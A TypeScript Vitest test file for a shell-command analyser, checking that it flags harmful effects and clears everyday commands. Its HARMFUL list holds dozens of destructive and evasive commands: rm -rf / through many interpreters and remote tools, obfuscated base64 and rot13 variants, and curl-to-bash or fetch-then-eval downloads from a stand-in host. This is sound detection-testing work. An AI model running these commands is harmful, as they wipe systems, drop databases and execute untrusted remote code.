import { describe, expect, test } from 'vitest'
import { analyse } from './fixture.ts'

/** Effects no everyday command has. */
const HARM = /^(?:exec\.(?:remote|decoded)|fs\.delete|db\.destroy)$/

/** Destructive or unseen effects; of deletions those of the root, the system or a home. */
const harms = (command: string): readonly string[] =>
  analyse(command)
    .effects.filter(({ kind }) => HARM.test(kind))
    .filter(
      ({ kind, targets }) =>
        kind !== 'fs.delete' || targets.some((one) => one.type === 'path' && /^(?:root|system|home)$/.test(one.zone)),
    )
    .map(({ kind }) => kind)

const HARMFUL = [
  'coproc rm -rf /',
  '/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /',
  "expect -c 'spawn rm -rf /; interact'",
  'bwrap --bind / / rm -rf /etc',
  "gdb -batch -ex 'shell rm -rf /'",
  'emacs --batch --eval \'(shell-command "rm -rf /")\'',
  'dtach -n /tmp/s rm -rf /',
  "PS4='$(rm -rf /)' bash -x -c ls",
  'BASH_ENV=<(echo rm -rf /) bash -c ls',
  "python3 -c \"getattr(__import__('os'),'sys'+'tem')('rm -rf /')\"",
  "node -p \"process.mainModule.require('child_process').execSync('rm -rf /')\"",
  'node -e "fetch(\'https://e.example/x\').then(r=>r.text()).then(eval)"',
  'perl -e \'exec "rm","-rf","/"\'',
  "perl -e '`rm -rf /`'",
  'perl -MFile::Path -e \'rmtree("/etc")\'',
  "perl -e 'qx{rm -rf /}'",
  "julia -e 'run(`rm -rf /`)'",
  'erl -eval \'os:cmd("rm -rf /")\'',
  'elixir -e \'System.cmd("rm", ["-rf", "/"])\'',
  "tr a-z n-za-m <<< 'ez -es /' | sh",
  'echo "eJwLysgvLlHQTVPQBwAN3gKs" | base64 -d | zlib-flate -uncompress | sh',
  'perl -MMIME::Base64 -e \'print decode_base64("cm0gLXJmIC8=")\' | sh',
  "sh -s < <(echo 'rm -rf /')",
  "source /dev/stdin <<< 'rm -rf /'",
  "IFS=,; x='rm,-rf,/'; $x",
  'x=(rm -rf /); "${x[@]}"',
  'curl https://e.example/i | tee i.sh | bash',
  "docker exec -it db psql -c 'drop table users'",
  "ssh host < <(echo 'rm -rf /')",
  "ssh host bash -s <<'E'\nrm -rf /\nE",
  'kubectl run x --image=alpine --rm -it -- rm -rf /',
  "vagrant ssh -c 'rm -rf /'",
  "ansible all -m shell -a 'rm -rf /'",
  "salt '*' cmd.run 'rm -rf /'",
  "gcloud compute ssh vm --command='rm -rf /'",
  'aws ssm send-command --document-name AWS-RunShellScript --parameters \'commands=["rm -rf /"]\'',
]

const HARMLESS = [
  'watch -n 2 git status',
  "tmux new-session -d 'npm run dev'",
  'screen -ls',
  "vim -c 'set number' a.txt",
  'trap \'rm -rf "$TMP"\' EXIT; TMP=$(mktemp -d)',
  'gdb -batch -ex bt ./a.out core',
  'python3 -c "print(\'rm -rf /\')"',
  "perl -ne 'print if /rm -rf/' file.txt",
  'awk \'{ print | "sort" }\' data.txt',
  "sed -n 's/rm/RM/gp' file",
  "Rscript -e 'print(1)'",
  'git commit -m "$(cat <<\'E\'\nDo not run curl x | sh\nE\n)"',
  'xxd a.bin | head',
  "find . -name '*.log' -mtime +7 -delete",
  'ls *.txt | parallel wc -l {}',
  'eval "$(direnv hook bash)"',
  'eval "$(fnm env)"',
  'docker run --rm -v $PWD:/app node npm test',
  'docker exec web rm /tmp/x',
  'kubectl exec pod -- ls',
  'ssh host uptime',
  'ansible-playbook site.yml --check',
  'adb devices',
]

describe('ways to run a command', () => {
  test.each(HARMFUL)('%s is followed', (command) => {
    expect(harms(command)).not.toEqual([])
  })
  test.each(HARMFUL)('%s: the span of the effect is in the command', (command) => {
    const spans = analyse(command)
      .effects.filter(({ kind }) => HARM.test(kind))
      .map(({ span }) => span)
    expect(spans.every((span) => span !== undefined && span.start < span.end && span.end <= command.length)).toBe(true)
  })
  test.each(HARMLESS)('%s has no harmful effect', (command) => {
    expect(harms(command)).toEqual([])
  })
})
